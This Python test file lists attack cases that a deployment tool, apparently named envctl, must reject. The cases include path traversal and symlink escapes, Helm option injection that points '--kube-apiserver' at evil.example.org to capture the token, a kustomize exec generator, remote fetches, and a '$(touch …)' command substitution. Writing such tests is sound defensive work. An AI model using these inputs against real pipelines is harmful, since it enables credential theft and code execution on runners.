"""Attacks by what a repository holds: paths, links, charts, kustomizations, envctl.yaml itself."""

from __future__ import annotations

from tests.attacks.attack import CONFINED, Attack

MR, FORK, CHART = "author of a merge request", "author of a fork", "compromised chart"
_CHART = "{apiVersion: v2, name: a, version: 1.0.0}\n"
_SHOWS = (
    "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n"
    'data: {x: {{ .Files.Get "FILE" | quote }}}\n'
)
_RUNS = "  - {name: a, helm: {chart: chart}, timeout: 60s}\n"
_KUSTOMIZE = "  - {name: k, kustomize: kust}\n"
_OUT = "leads outside the repository"


def _component(text: str) -> str:
    return f"  - {{name: a, {text}}}\n"


def _kustomization(name: str, by: str, code: int, says: str, text: str, **more: object) -> Attack:
    return Attack(name, by, code, says, files={"kust/kustomization.yaml": text},
                  components=_KUSTOMIZE, **more)  # type: ignore[arg-type]  # fmt: skip


def _chart(name: str, code: int, says: str, file: str, links: dict[str, str]) -> Attack:
    files = {"chart/Chart.yaml": _CHART, "chart/templates/a.yaml": _SHOWS.replace("FILE", file)}
    return Attack(name, CHART, code, says, files=files, links=links, components=_RUNS)


PATHS = [
    Attack("manifests: ../ to another checkout", MR, 2, _OUT,
           components=_component("manifests: [BESIDE/stolen.yaml]")),
    Attack("manifests: an absolute path", MR, 2, _OUT,
           components=_component("manifests: [OUTSIDE/stolen.yaml]")),
    Attack("manifests: a glob over the whole disk", MR, 2, _OUT,
           components=_component('manifests: ["/**/*.yaml"]')),
    Attack("manifests: a link to the runner's files", MR, 2, _OUT,
           links={"deploy/a.yaml": "OUTSIDE/stolen.yaml"},
           components=_component("manifests: [deploy/a.yaml]")),
    Attack("job: a link to the runner's files", MR, 2, _OUT, links={"a.yaml": "OUTSIDE/loot"},
           components=_component("job: a.yaml")),
    Attack("envctl.yaml is a link to the runner's files", MR, 2, _OUT,
           links={"envctl.yaml": "OUTSIDE/values.yaml"}),
    Attack("chart: ../ to another checkout", MR, 2, _OUT,
           components=_component("helm: {chart: BESIDE/chart}")),
    Attack("chart: a link to another checkout", MR, 2, _OUT, links={"chart": "OUTSIDE/chart"},
           components=_RUNS),
    Attack("values: ../ to the runner's files", MR, 2, _OUT, files={"chart/Chart.yaml": _CHART},
           components=_component("helm: {chart: chart, values: [BESIDE/values.yaml]}")),
    Attack("values: a link to the runner's files", MR, 2, _OUT,
           files={"chart/Chart.yaml": _CHART}, links={"chart/v.yaml": "OUTSIDE/values.yaml"},
           components=_component("helm: {chart: chart, values: [chart/v.yaml]}")),
    Attack("values: a URL that Helm would fetch", MR, 2, "does not exist",
           files={"chart/Chart.yaml": _CHART},
           components=_component('helm: {chart: chart, values: ["http://127.0.0.1:9/v.yaml"]}')),
    Attack("kustomize: ../ to another checkout", MR, 2, _OUT,
           components=_component("kustomize: BESIDE")),
]  # fmt: skip

HELM = [
    Attack("chart: an option for helm instead of a name (--post-renderer)", MR, 2, "is no chart",
           files={"a/Chart.yaml": _CHART},
           components=_component('helm: {chart: "--post-renderer=./evil.sh", '
                                 'repository: "https://charts.example.org", version: 1.0.0}')),
    Attack("chart: an option for helm that sends the token elsewhere (--kube-apiserver)", MR, 2,
           "is no chart", files={"a/Chart.yaml": _CHART},
           components=_component('helm: {chart: "--kube-apiserver=https://evil.example.org", '
                                 'repository: "https://charts.example.org", version: 1.0.0}')),
    Attack("repository: a file of the runner", MR, 2, "is no http:// or https:// URL",
           components=_component(
               'helm: {chart: a, repository: "file:///etc", version: 1.0.0}')),
    Attack("version: an option for helm", MR, 2, "is no version",
           components=_component('helm: {chart: a, repository: "https://charts.example.org", '
                                 'version: "--insecure-skip-tls-verify"}')),
    _chart("a link out of the chart, read by .Files.Get", 77, "leads out of the chart", "loot",
           {"chart/loot": "OUTSIDE/loot"}),
    _chart("the same in a folder that is no part of the chart's digest", 77,
           "leads out of the chart", "__pycache__/loot",
           {"chart/__pycache__/loot": "OUTSIDE/loot"}),
    _chart("a linked folder in the chart", 77, "leads out of the chart", "all/loot",
           {"chart/all": "OUTSIDE"}),
    _chart(".Files.Get of a path out of the chart", 0, "", "BESIDE/loot", {}),
    Attack("a chart's dependency on a folder outside (file://)", CHART, 2, "missing in charts",
           components=_RUNS, files={
               "chart/Chart.yaml": _CHART.replace("}", ", dependencies: [{name: other, "
                   "version: 1.0.0, repository: 'file://../BESIDE/chart'}]}"),
               "chart/templates/a.yaml": _SHOWS}),
]  # fmt: skip

_EXEC = (
    "apiVersion: v1\nkind: Evil\nmetadata:\n  name: evil\n  annotations:\n"
    "    config.kubernetes.io/function: |\n      exec: {path: ./evil.sh}\n"
)

KUSTOMIZE = [
    _kustomization("a base outside of the repository", MR, 2, _OUT, "resources: [../BESIDE]\n"),
    _kustomization("the same in capitals, as Go reads it", MR, 2, _OUT, "Resources: [../BESIDE]\n"),
    _kustomization("a base that is a link to another checkout", MR, 2, _OUT, "resources: [base]\n",
                   links={"kust/base": "OUTSIDE"}),
    _kustomization("a base that is another checkout, as file://", MR, 2, _OUT,
                   "resources: ['file://OUTSIDE']\n"),
    _kustomization("a configMapGenerator over a file outside", MR, 2, "is not in or below",
                   "configMapGenerator: [{name: a, files: [../BESIDE/loot]}]\n"),
    _kustomization("a patch from outside", MR, 2, "is not in or below",
                   "patches: [{path: ../BESIDE/stolen.yaml}]\n"),
    Attack("the kustomization itself is a link", MR, 2, _OUT,
           links={"kust/kustomization.yaml": "OUTSIDE/kustomization.yaml"}, components=_KUSTOMIZE),
    Attack("a generator that runs a program", MR, 2, "does not build",
           files={"kust/kustomization.yaml": "generators: [evil.yaml]\n", "kust/evil.yaml": _EXEC},
           components=_KUSTOMIZE),
    _kustomization("helmCharts, which runs helm with plugins", MR, 2, "does not build",
                   "helmCharts: [{name: a, repo: 'https://127.0.0.1:9', version: 1.0.0}]\n"),
    _kustomization("a base that git fetches from the runner's network", FORK, 77,
                   "would be fetched", "resources: ['https://127.0.0.1:9/a.git?ref=main']\n",
                   env=CONFINED),
    _kustomization("a base that the runner fetches by HTTP", FORK, 77, "would be fetched",
                   "resources: ['http://127.0.0.1:9/a.yaml']\n", env=CONFINED),
    Attack("a folder with a repository's name, which git fetches all the same", FORK, 77,
           "would be fetched", components=_KUSTOMIZE, env=CONFINED,
           files={"kust/kustomization.yaml": "resources: [github.com/a/b]\n",
                  "kust/github.com/a/b/kustomization.yaml": "resources: []\n"}),
]  # fmt: skip

_CI = {"CI": "true"}
_TOUCHES = '  - {name: a, command: [touch, "OUTSIDE/ran"]}\n'

COMMANDS = [
    Attack("a check that is a command, in a CI", MR, 77, "ENVCTL_COMMANDS does not allow",
           checks=_TOUCHES, env=_CI),
    Attack("a run of pytest, in a CI", MR, 77, "ENVCTL_COMMANDS does not allow",
           checks="  - {name: a, pytest: [evil.py]}\n", env=_CI,
           files={"evil.py": "open('OUTSIDE/ran', 'w')\n"}),
    Attack("a command of a fork, in a CI that allows commands", FORK, 77, "the runner's rights",
           checks=_TOUCHES, env={**CONFINED, **_CI, "ENVCTL_COMMANDS": "allow"}),
    Attack("a command that waits for a shell to read it", MR, 0, "",
           checks='  - {name: a, command: [echo, "$(touch OUTSIDE/ran); touch OUTSIDE/ran"]}\n'),
]  # fmt: skip

ALL = [*PATHS, *HELM, *KUSTOMIZE, *COMMANDS]
